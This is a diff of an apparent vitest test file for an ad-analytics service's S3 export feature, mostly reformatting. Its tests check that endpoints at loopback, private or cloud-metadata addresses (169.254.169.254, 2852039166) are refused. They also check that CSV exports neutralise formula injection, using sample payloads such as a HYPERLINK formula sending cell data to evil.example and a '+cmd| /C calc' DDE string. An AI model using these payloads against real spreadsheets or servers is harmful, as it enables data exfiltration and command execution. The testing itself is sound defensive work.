@@ -10,7 +10,7 @@ import { GetObjectCommand, ListObjectsV2Command, S3Client } from "@aws-sdk/clien
 import { DuckDBInstance } from "@duckdb/node-api";
 import type pg from "pg";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { LOCAL_S3_CREDENTIALS, startLocalS3, type LocalS3 } from "@/cli/local/local-s3";
+import { LOCAL_S3_CREDENTIALS, type LocalS3, startLocalS3 } from "@/cli/local/local-s3";
 import { recordConversion } from "@/server/conversions/record-conversion";
 import { db } from "@/server/db/client";
 import { bulkPool, pgPool } from "@/server/db/pg-pool";
@@ -22,8 +22,8 @@ import { deliverBatch } from "./deliver-batch";
 import { createDestination, destinationWithSecret, getDestination, updateDestination } from "./destinations";
 import { isolateBadRows } from "./poison";
 import { runDueExports } from "./run-exports";
-import { setAsideExportRows } from "./set-aside-rows";
 import { testConnection } from "./s3";
+import { setAsideExportRows } from "./set-aside-rows";
 
 const CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36";
 const DAY_MS = 86_400_000;
@@ -37,7 +37,14 @@ const work = mkdtempSync(path.join(tmpdir(), "tally-export-hardening-"));
 let s3: LocalS3;
 
 const client = () =>
-  new S3Client({ region: "us-east-1", endpoint: s3.endpoint, forcePathStyle: true, credentials: LOCAL_S3_CREDENTIALS, requestChecksumCalculation: "WHEN_REQUIRED", responseChecksumValidation: "WHEN_REQUIRED" });
+  new S3Client({
+    region: "us-east-1",
+    endpoint: s3.endpoint,
+    forcePathStyle: true,
+    credentials: LOCAL_S3_CREDENTIALS,
+    requestChecksumCalculation: "WHEN_REQUIRED",
+    responseChecksumValidation: "WHEN_REQUIRED",
+  });
 
 async function listKeys(prefix: string): Promise<string[]> {
   const page = await client().send(new ListObjectsV2Command({ Bucket: BUCKET, Prefix: prefix }));
@@ -74,7 +81,15 @@ afterAll(async () => {
 async function destinationFor(accountId: string, types: string[], endpoint = s3.endpoint) {
   const prefix = `t-${randomUUID()}`;
   const destination = await createDestination({
-    accountId, name: "Lake", bucket: BUCKET, region: "us-east-1", endpoint, forcePathStyle: true, prefix, credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS }, types,
+    accountId,
+    name: "Lake",
+    bucket: BUCKET,
+    region: "us-east-1",
+    endpoint,
+    forcePathStyle: true,
+    prefix,
+    credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
+    types,
   });
   await db.exportDestination.update({ where: { id: destination.id }, data: { createdAt: new Date(T0 - 2 * DAY_MS) } });
   return { ...destination, prefix: `${prefix}/` };
@@ -90,13 +105,38 @@ async function publisherWithEvents(times: number[]) {
   return { publisher, advertiser, campaign, ad, ids, add: (at: number, session: string) => eventAt(publisher, advertiser.id, campaign.id, ad.id, at, session) };
 }
 
-async function eventAt(publisher: Awaited<ReturnType<typeof makePublisher>>, advertiserId: string, campaignId: string, adId: string, at: number, session: string): Promise<string> {
+async function eventAt(
+  publisher: Awaited<ReturnType<typeof makePublisher>>,
+  advertiserId: string,
+  campaignId: string,
+  adId: string,
+  at: number,
+  session: string,
+): Promise<string> {
   const stored = await recordBeacon({
-    claims: { kind: "impression", requestId: randomUUID(), adId, campaignId, advertiserId, publisherId: publisher.id, site: publisher.sites[0]!.name, placementName: "home", context: "home", adType: "banner", adSize: "300x250", issuedAt: Math.floor(at / 1000), sessionHash: sessionHashOf(session) },
-    body: { session_id: session }, userAgent: CHROME, now: new Date(at),
+    claims: {
+      kind: "impression",
+      requestId: randomUUID(),
+      adId,
+      campaignId,
+      advertiserId,
+      publisherId: publisher.id,
+      site: publisher.sites[0]!.name,
+      placementName: "home",
+      context: "home",
+      adType: "banner",
+      adSize: "300x250",
+      issuedAt: Math.floor(at / 1000),
+      sessionHash: sessionHashOf(session),
+    },
+    body: { session_id: session },
+    userAgent: CHROME,
+    now: new Date(at),
   });
   expect(stored.status).toBe("counted");
-  const [row] = await db.$queryRaw<{ event_id: string }[]>`SELECT event_id::text FROM ad_events WHERE publisher_id = ${publisher.id} AND session_id = ${session}`;
+  const [row] = await db.$queryRaw<
+    { event_id: string }[]
+  >`SELECT event_id::text FROM ad_events WHERE publisher_id = ${publisher.id} AND session_id = ${session}`;
   // The receipt time exactly, to the millisecond (the tests place rows on batch edges).
   await db.$executeRaw`UPDATE ad_events SET created_at = ${new Date(at)} WHERE event_id = ${row!.event_id}::uuid`;
   return row!.event_id;
@@ -113,21 +153,33 @@ describe("a destination's endpoint", () => {
   it("may not point at a loopback, private or link-local address when saved, in words on the endpoint field", async () => {
     const publisher = await makePublisher();
     const input = (endpoint: string) => ({
-      accountId: publisher.id, name: "Inside", bucket: BUCKET, region: "us-east-1", endpoint, forcePathStyle: true, credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
+      accountId: publisher.id,
+      name: "Inside",
+      bucket: BUCKET,
+      region: "us-east-1",
+      endpoint,
+      forcePathStyle: true,
+      credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
     });
     const refuse = { allowPrivateEndpoints: false };
     await expect(createDestination(input(s3.endpoint), refuse)).rejects.toThrow("endpoint must be a public address: 127.0.0.1 is a loopback address");
-    await expect(createDestination(input("http://169.254.169.254/latest/meta-data"), refuse))
-      .rejects.toThrow("endpoint must be a public address: 169.254.169.254 is a link-local address (where cloud metadata services answer)");
+    await expect(createDestination(input("http://169.254.169.254/latest/meta-data"), refuse)).rejects.toThrow(
+      "endpoint must be a public address: 169.254.169.254 is a link-local address (where cloud metadata services answer)",
+    );
     await expect(createDestination(input("http://2852039166"), refuse)).rejects.toThrow("169.254.169.254 is a link-local address");
-    await expect(createDestination(input("http://[::ffff:10.0.0.7]:9000"), refuse)).rejects.toThrow("endpoint must be a public address: ::ffff:a00:7 is a private network address (RFC 1918)");
-    await expect(createDestination(input(`http://localhost:${s3.port}`), refuse)).rejects.toThrow(/^endpoint must be a public address: localhost resolves to (127\.0\.0\.1|::1), a loopback address$/);
+    await expect(createDestination(input("http://[::ffff:10.0.0.7]:9000"), refuse)).rejects.toThrow(
+      "endpoint must be a public address: ::ffff:a00:7 is a private network address (RFC 1918)",
+    );
+    await expect(createDestination(input(`http://localhost:${s3.port}`), refuse)).rejects.toThrow(
+      /^endpoint must be a public address: localhost resolves to (127\.0\.0\.1|::1), a loopback address$/,
+    );
     expect(await db.exportDestination.count({ where: { accountId: publisher.id } })).toBe(0);
 
     // An update is checked the same way; the operator's allowance lets the local S3 through.
     const allowed = await createDestination(input(s3.endpoint), { allowPrivateEndpoints: true });
-    await expect(updateDestination(allowed.id, { ...input("http://192.168.0.10:9000"), name: "Moved" }, refuse))
-      .rejects.toThrow("endpoint must be a public address: 192.168.0.10 is a private network address (RFC 1918)");
+    await expect(updateDestination(allowed.id, { ...input("http://192.168.0.10:9000"), name: "Moved" }, refuse)).rejects.toThrow(
+      "endpoint must be a public address: 192.168.0.10 is a private network address (RFC 1918)",
+    );
     expect((await getDestination(allowed.id))!.endpoint).toBe(s3.endpoint);
   });
 
@@ -136,7 +188,12 @@ describe("a destination's endpoint", () => {
     // Saved while allowed (as a name that resolved to a public address then would be); connecting later is refused.
     const byName = await destinationFor(shop.publisher.id, ["ad_events"], `http://localhost:${s3.port}`);
     const refused = await testConnection((await destinationWithSecret(byName.id))!, { allowPrivateEndpoints: false });
-    expect(refused).toEqual({ ok: false, error: expect.stringMatching(/^the endpoint is not on the public internet: localhost resolves to (127\.0\.0\.1|::1), a loopback address; Tally connects only to public addresses$/) });
+    expect(refused).toEqual({
+      ok: false,
+      error: expect.stringMatching(
+        /^the endpoint is not on the public internet: localhost resolves to (127\.0\.0\.1|::1), a loopback address; Tally connects only to public addresses$/,
+      ),
+    });
     expect(await testConnection((await destinationWithSecret(byName.id))!, { allowPrivateEndpoints: true })).toMatchObject({ ok: true });
 
     // A literal address, which Node dials without a lookup: the export's run fails in words, the
@@ -149,7 +206,17 @@ describe("a destination's endpoint", () => {
     expect(await getDestination(literal.id)).toMatchObject({ status: "needs_attention", statusReason: failed[0]!.error });
     expect(await listKeys(literal.prefix)).toEqual([]);
     // Allowed, the same destination delivers: the refusal was the guard's, not the bucket's.
-    await updateDestination(literal.id, { accountId: shop.publisher.id, name: "Lake", bucket: BUCKET, region: "us-east-1", endpoint: s3.endpoint, forcePathStyle: true, prefix: literal.prefix, credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS }, types: ["ad_events"] });
+    await updateDestination(literal.id, {
+      accountId: shop.publisher.id,
+      name: "Lake",
+      bucket: BUCKET,
+      region: "us-east-1",
+      endpoint: s3.endpoint,
+      forcePathStyle: true,
+      prefix: literal.prefix,
+      credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
+      types: ["ad_events"],
+    });
     const delivered = await runDueExports({ now: () => new Date(T0 + 3 * DAY_MS), destinationId: literal.id, allowPrivateEndpoints: true });
     expect(delivered.runs.every((r) => r.status === "succeeded")).toBe(true);
     expect(await eventIdsIn(await listKeys(literal.prefix))).toEqual(shop.ids);
@@ -178,16 +245,29 @@ describe("CSV cells a spreadsheet would run", () => {
     expect(readFileSync(advertisersFile!, "utf8")).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",${advertiser.id},"'@SUM(1+1)",-12.5,`);
 
     const sql = await duckdb();
-    const advertisers = await sql(`SELECT advertiser, seller_id, wallet_balance FROM read_csv('${advertisersFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`);
+    const advertisers = await sql(
+      `SELECT advertiser, seller_id, wallet_balance FROM read_csv('${advertisersFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`,
+    );
     expect(advertisers).toEqual([{ advertiser: `'${evilName}`, seller_id: "'@SUM(1+1)", wallet_balance: -12.5 }]);
-    const types = await sql(`SELECT column_name, column_type FROM (DESCRIBE SELECT wallet_balance, advertiser FROM read_csv('${advertisersFile}', header = true))`);
-    expect(types).toEqual([{ column_name: "wallet_balance", column_type: "DOUBLE" }, { column_name: "advertiser", column_type: "VARCHAR" }]);
+    const types = await sql(
+      `SELECT column_name, column_type FROM (DESCRIBE SELECT wallet_balance, advertiser FROM read_csv('${advertisersFile}', header = true))`,
+    );
+    expect(types).toEqual([
+      { column_name: "wallet_balance", column_type: "DOUBLE" },
+      { column_name: "advertiser", column_type: "VARCHAR" },
+    ]);
 
-    const campaigns = await sql(`SELECT name, impressions_total FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}' ORDER BY name`);
-    expect(campaigns.map((c) => c.name).sort()).toEqual(["'-2+3", "'+cmd|' /C calc'!A0", "'\tTabbed", "'\rReturn", "''=already quoted", "Plain, with a comma", "a=b-c"].sort());
+    const campaigns = await sql(
+      `SELECT name, impressions_total FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}' ORDER BY name`,
+    );
+    expect(campaigns.map((c) => c.name).sort()).toEqual(
+      ["'-2+3", "'+cmd|' /C calc'!A0", "'\tTabbed", "'\rReturn", "''=already quoted", "Plain, with a comma", "a=b-c"].sort(),
+    );
     expect(campaigns.every((c) => typeof c.impressions_total === "number" || typeof c.impressions_total === "bigint")).toBe(true);
     // How a data team takes the prefix off (docs/export.md): the original text, every time.
-    const undone = await sql(`SELECT regexp_replace(name, '^''(''*[=+\\-@\\t\\r])', '\\1') AS name FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`);
+    const undone = await sql(
+      `SELECT regexp_replace(name, '^''(''*[=+\\-@\\t\\r])', '\\1') AS name FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`,
+    );
     expect(undone.map((c) => c.name).sort()).toEqual([...names].sort());
   });
 });
@@ -198,11 +278,22 @@ describe("a row the export cannot write", () => {
     const orders: string[] = [];
     for (let i = 0; i < 7; i += 1) {
       const at = YESTERDAY + (10 + i) * HOUR_MS;
-      await recordConversion({
-        publisher_id: publisher.id, user_id: `u${i}`, session_id: `s${i}`, order_id: `o-${randomUUID()}`, created_at: new Date(at - 60_000).toISOString(), channel: "online store",
-        email_hashed: "a".repeat(64), items: [{ sku: "SKU-1", quantity: 1, price: 10, promotional_price: 10 }],
-      }, new Date(at));
-      const [row] = await db.$queryRaw<{ event_id: string }[]>`SELECT event_id::text FROM conversions WHERE publisher_id = ${publisher.id} AND session_id = ${`s${i}`}`;
+      await recordConversion(
+        {
+          publisher_id: publisher.id,
+          user_id: `u${i}`,
+          session_id: `s${i}`,
+          order_id: `o-${randomUUID()}`,
+          created_at: new Date(at - 60_000).toISOString(),
+          channel: "online store",
+          email_hashed: "a".repeat(64),
+          items: [{ sku: "SKU-1", quantity: 1, price: 10, promotional_price: 10 }],
+        },
+        new Date(at),
+      );
+      const [row] = await db.$queryRaw<
+        { event_id: string }[]
+      >`SELECT event_id::text FROM conversions WHERE publisher_id = ${publisher.id} AND session_id = ${`s${i}`}`;
       await db.$executeRaw`UPDATE conversions SET received_at = ${new Date(at)} WHERE event_id = ${row!.event_id}::uuid`;
       orders.push(row!.event_id);
     }
@@ -228,7 +319,9 @@ describe("a row the export cannot write", () => {
     const planned = (await db.exportRun.findMany({ where: { destinationId: destination.id } })).flatMap((r) => r.keys);
     expect(inBucket.filter((k) => k.endsWith(".parquet"))).toEqual(planned.sort());
     expect(inBucket).not.toContain(firstAttempt[0]);
-    expect(inBucket.filter((k) => k.endsWith("_SUCCESS"))).toHaveLength(new Set(inBucket.filter((k) => k.endsWith(".parquet")).map((k) => k.slice(0, k.lastIndexOf("/")))).size);
+    expect(inBucket.filter((k) => k.endsWith("_SUCCESS"))).toHaveLength(
+      new Set(inBucket.filter((k) => k.endsWith(".parquet")).map((k) => k.slice(0, k.lastIndexOf("/")))).size,
+    );
     const sql = await duckdb();
     const files = await download(inBucket.filter((k) => k.endsWith(".parquet")));
     const delivered = (await sql(`SELECT event_id FROM read_parquet(${fileList(files)}) ORDER BY placed_at`)).map((r) => String(r.event_id));
@@ -240,14 +333,25 @@ describe("a row the export cannot write", () => {
     const day = stored.startedAt.toISOString().slice(0, 10);
     const listed = await setAsideExportRows({ startDate: day, endDate: day });
     expect(listed.totalRows).toBeGreaterThanOrEqual(2);
-    expect(listed.runs.find((r) => r.run_id === run.runId)).toMatchObject({ destination_id: destination.id, account_id: publisher.id, type: "orders", rows: run.setAside });
+    expect(listed.runs.find((r) => r.run_id === run.runId)).toMatchObject({
+      destination_id: destination.id,
+      account_id: publisher.id,
+      type: "orders",
+      rows: run.setAside,
+    });
   });
 
   it("is found by splitting when Postgres itself fails on it (SQLSTATE class 22), and the split ends at each bad row", async () => {
     await db.$executeRawUnsafe("CREATE TABLE poison_rows (id int PRIMARY KEY, divisor int NOT NULL)");
     await db.$executeRawUnsafe("INSERT INTO poison_rows SELECT n, CASE WHEN n IN (17, 123, 124) THEN 0 ELSE n END FROM generate_series(1, 200) n");
     const rows: BatchRows = {
-      type: "advertisers", select: "p.id::text AS id, 1000 / p.divisor AS share", from: "poison_rows p", where: "true", order: "p.id", id: "p.id::text", values: [],
+      type: "advertisers",
+      select: "p.id::text AS id, 1000 / p.divisor AS share",
+      from: "poison_rows p",
+      where: "true",
+      order: "p.id",
+      id: "p.id::text",
+      values: [],
       cells: (raw) => [(raw as { id: string }).id, (raw as { share: number }).share],
     };
     const found = await isolateBadRows(rows, []);
@@ -257,7 +361,15 @@ describe("a row the export cannot write", () => {
     expect(await isolateBadRows(rows, ["17", "123"])).toEqual([{ id: "124", reason: "division by zero (SQLSTATE 22012)", rows: 1 }]);
     const firstTwo = await isolateBadRows(rows, [], 2);
     expect(firstTwo.map((row) => row.id)).toEqual(["123", "124"]);
-    expect((await isolateBadRows(rows, firstTwo.map((row) => row.id), 2)).map((row) => row.id)).toEqual(["17"]);
+    expect(
+      (
+        await isolateBadRows(
+          rows,
+          firstTwo.map((row) => row.id),
+          2,
+        )
+      ).map((row) => row.id),
+    ).toEqual(["17"]);
     // An error that is not the data's (here, a column that does not exist) is not split: it fails as it is.
     await expect(isolateBadRows({ ...rows, select: "p.nothing" }, [])).rejects.toMatchObject({ code: "42703" });
   });
@@ -312,7 +424,13 @@ describe("an event batch", () => {
     const destination = (await destinationWithSecret((await destinationFor(shop.publisher.id, ["ad_events"])).id))!;
     const folder = `${destination.prefix}ad_events/x/`;
     const run = (plannedRows: number) => ({
-      id: "exr_test", type: "ad_events" as const, rangeStart: new Date(YESTERDAY), rangeEnd: new Date(YESTERDAY + DAY_MS), plannedRows, exclude: [], staleKeys: [],
+      id: "exr_test",
+      type: "ad_events" as const,
+      rangeStart: new Date(YESTERDAY),
+      rangeEnd: new Date(YESTERDAY + DAY_MS),
+      plannedRows,
+      exclude: [],
+      staleKeys: [],
       keys: Array.from({ length: plannedRows }, (_, i) => `${folder}${plannedRows}-${i}.snappy.parquet`),
     });
     // More rows than planned: none of them written past the plan, no marker.
@@ -321,7 +439,11 @@ describe("an event batch", () => {
     expect(await deliverBatch(destination, run(4), { rowsPerFile: 1 })).toEqual({ status: "changed", reason: "3 rows where 4 were planned" });
     expect(await listKeys(folder)).toEqual(run(4).keys.slice(0, 3).sort());
     // As planned: every file, then the marker.
-    expect(await deliverBatch(destination, { ...run(3), staleKeys: run(4).keys }, { rowsPerFile: 1 })).toMatchObject({ status: "delivered", rows: 3, files: 3 });
+    expect(await deliverBatch(destination, { ...run(3), staleKeys: run(4).keys }, { rowsPerFile: 1 })).toMatchObject({
+      status: "delivered",
+      rows: 3,
+      files: 3,
+    });
     expect(await listKeys(folder)).toEqual([...run(3).keys, `${folder}_SUCCESS`].sort());
   });
 
@@ -336,7 +458,9 @@ describe("an event batch", () => {
         into.push(text);
         return query(...args);
       }) as typeof pool.query;
-      return () => void (pool.query = query);
+      return () => {
+        pool.query = query;
+      };
     };
     const restore = [record(pgPool(), seen.request), record(bulkPool(), seen.bulk)];
     try {
@@ -361,7 +485,9 @@ describe("an event batch", () => {
 async function interruptAfterFirstFile(destinationId: string, rowsPerFile: number) {
   let uploaded = 0;
   const first = await runDueExports({
-    now: LATER, destinationId, rowsPerFile,
+    now: LATER,
+    destinationId,
+    rowsPerFile,
     onFile: () => {
       uploaded += 1;
       throw new Error("the worker stopped");
